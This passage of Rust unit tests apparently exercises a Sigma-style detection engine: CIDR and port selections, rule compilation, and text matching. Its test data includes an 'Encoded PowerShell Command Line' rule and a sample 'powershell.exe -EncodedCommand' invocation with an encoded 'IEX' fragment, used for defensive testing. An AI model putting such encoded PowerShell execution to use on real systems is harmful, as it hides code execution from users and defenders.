        destination_ip: "8.8.8.8".into(),
        destination_port: 443,
        protocol: NetworkProtocol::Tcp,
        initiated_at: now(),
    }));
    let view = EventView::of(&event).expect("mapped");
    let mut readings = addresses();
    readings.numbers = numbers(&["443", "400"]).numbers;
    let inside = selection("SourceIp|cidr: '10.0.0.0/8'\nDestinationPort|gt: 400\n");
    assert!(selection_matches(&inside, &view, &readings));
    let outside = selection("DestinationIp|cidr: '10.0.0.0/8'\n");
    assert!(!selection_matches(&outside, &view, &readings));
}

#[test]
fn a_detection_names_its_selections_and_its_fields() {
    let detection = compile(&yaml(
        "sel_a: {Image|endswith: 'x', CommandLine: 'y'}\nsel_b: {Image: 'z'}\ncondition: sel_a or sel_b\n",
    ))
    .expect("compiles");
    assert_eq!(detection.selection_names(), vec!["sel_a", "sel_b"]);
    assert_eq!(detection.fields(), vec!["Image", "CommandLine", "Image"]);
    assert!(detection.selection("sel_b").is_some());
    assert!(detection.selection("sel_c").is_none());
    assert!(detection.satisfiable(&["Image"]));
    assert!(!detection.satisfiable(&["CommandLine"]));
    assert!(detection.matches(&process_with("z", "p"), &Readings::none()));
    assert!(!detection.matches(&process_with("w", "p"), &Readings::none()));
}

#[test]
fn one_rule_loads_from_its_text() {
    assert_eq!(
        RuleSet::from_yaml(RULE).expect("parses").title,
        "Encoded PowerShell Command Line"
    );
    assert!(RuleSet::from_yaml("title: x\n").is_err());
}

#[test]
fn what_a_comparison_may_read_is_listed() {
    let source = RULE.replace(
        "        Image|endswith: '\\powershell.exe'\n",
        "        SourceIp|cidr: ' 10.0.0.0 / 8'\n",
    );
    let rules = RuleSet::from_rules(vec![Rule::parse(&source).expect("parses")]);
    let texts = rules.texts();
    assert!(texts.contains(&"10.0.0.0".to_string()), "{texts:?}");
    assert!(texts.contains(&"10.0.0.0 / 8".to_string()), "{texts:?}");
    let view = EventView::of(&process(" 42 ", "a")).expect("mapped");
    assert!(view.texts().contains(&"42".to_string()));
    assert!(view.texts().contains(&" 42 ".to_string()));
}

#[test]
fn a_text_that_is_not_listed_changes_nothing() {
    let rules = RuleSet::from_rules(vec![Rule::parse(RULE).expect("parses")]);
    let event = process(
        "C:\\Windows\\System32\\powershell.exe",
        "powershell.exe -EncodedCommand SQBFAFgA",
    );
    let unrelated = Readings {
        numbers: vec![("unrelated".to_string(), 7)],
        addresses: Vec::new(),
    };
    assert_eq!(
        rules.evaluate(&event, &unrelated).len(),
        rules.evaluate(&event, &Readings::none()).len()
    );
}
